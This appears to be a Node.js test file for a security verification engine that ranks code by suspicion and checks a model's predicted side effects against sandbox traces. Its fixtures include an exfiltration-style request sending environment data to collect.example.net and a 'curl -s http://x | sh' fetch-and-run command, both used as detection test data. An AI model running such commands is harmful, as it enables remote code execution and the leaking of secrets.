// The pure parts of verification: the adaptive orbit's schedule, suspicion ranking, short effect
// descriptions, and the sandbox settling a disagreement the model's original got right.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { orbitSchedule, contradictionsOf } = require('../../../server/dist/engine/verify/unit.js');
const { rankBySuspicion } = require('../../../server/dist/engine/verify/verifier.js');
const { describeEffects } = require('../../../server/dist/core/verify/describe.js');
const { arbitrate } = require('../../../server/dist/core/verify/arbitrate.js');
const { consistencyVerdict } = require('../../../server/dist/core/trace/verdict.js');

/** @type {import('../../../server/dist/core/trace/schema').Effect} */
const NET = { kind: 'network', target: 'https://collect.example.net/u?d=%7B%22NODE_ENV%22%3A%22production%22', args: [], line: 4 };
/** @type {(effects: import('../../../server/dist/core/trace/schema').Effect[], value?: import('../../../server/dist/core/trace/schema').JsonValue) => import('../../../server/dist/core/trace/schema').Trace} */
const trace = (effects, value = 1) => ({ steps: [{ line: 2, state: { x: 1 } }], effects, outcome: { kind: 'return', value } });

test('the adaptive schedule grows 2, 4, then the cap; a fixed one asks for the cap at once', () => {
  assert.deepEqual(orbitSchedule(8, 8, true), [2, 4, 8]);
  assert.deepEqual(orbitSchedule(8, 3, true), [2, 3]);
  assert.deepEqual(orbitSchedule(3, 8, true), [2, 3]);
  assert.deepEqual(orbitSchedule(1, 8, true), [1]);
  assert.deepEqual(orbitSchedule(8, 8, false), [8]);
  assert.deepEqual(orbitSchedule(0, 8, true), [0]);
});

test('static findings outrank sandbox effects, which outrank size', () => {
  /** @type {(name: string, start: number, end: number, effects: string[], size: number) => any} */
  const unit = (name, start, end, effects, size) => ({ unit: { name, span: { start, end } }, securityEffects: effects, size });
  const units = [unit('big', 0, 100, [], 3000), unit('net', 100, 200, ['network x'], 100), unit('sql', 200, 300, [], 100)];
  const statics = /** @type {import('../../../server/dist/core/types').Finding[]} */ ([{ span: { start: 210, end: 220 } }]);
  assert.deepEqual(rankBySuspicion(units, statics).map((u) => u.unit.name), ['sql', 'net', 'big']);
});

test('effects are described by host, environment reads are counted', () => {
  const env = ['*', 'NODE_ENV', 'PORT', 'HOME', 'USER'].map((target) => ({ kind: /** @type {const} */ ('env'), target }));
  assert.equal(describeEffects([...env, NET]), 'an https request to collect.example.net/u?d=%7B%22NODE_ENV%22… and reads of 5 environment variables (NODE_ENV, PORT, HOME, …)');
  assert.equal(describeEffects([{ kind: 'process', target: 'curl -s http://x | sh' }]), 'running `curl -s http://x | sh`');
});

test('a model that omits a real effect contradicts the sandbox; incidental effects do not count', () => {
  const real = [trace([NET, { kind: 'log', target: 'console.log', args: [], line: 3 }])];
  assert.deepEqual(contradictionsOf([trace([NET])], real), []);
  const [c] = contradictionsOf([trace([])], real);
  assert.match(c.message, /omits an https request to collect\.example\.net.*which the sandbox sees happen/);
});

test('when the original matches the sandbox, rewrites that disagree are noise, not a finding', () => {
  const truth = [trace([NET])];
  const noisy = [[trace([NET])], [trace([])], [trace([])]];
  const verdict = consistencyVerdict(noisy);
  assert.equal(verdict.verdict, 'inconsistent-effects');
  assert.notEqual(arbitrate(verdict, noisy, truth).verdict, 'inconsistent-effects');
  const lying = [[trace([])], [trace([NET])], [trace([NET])]];
  assert.equal(arbitrate(consistencyVerdict(lying), lying, truth).verdict, 'inconsistent-effects');
});
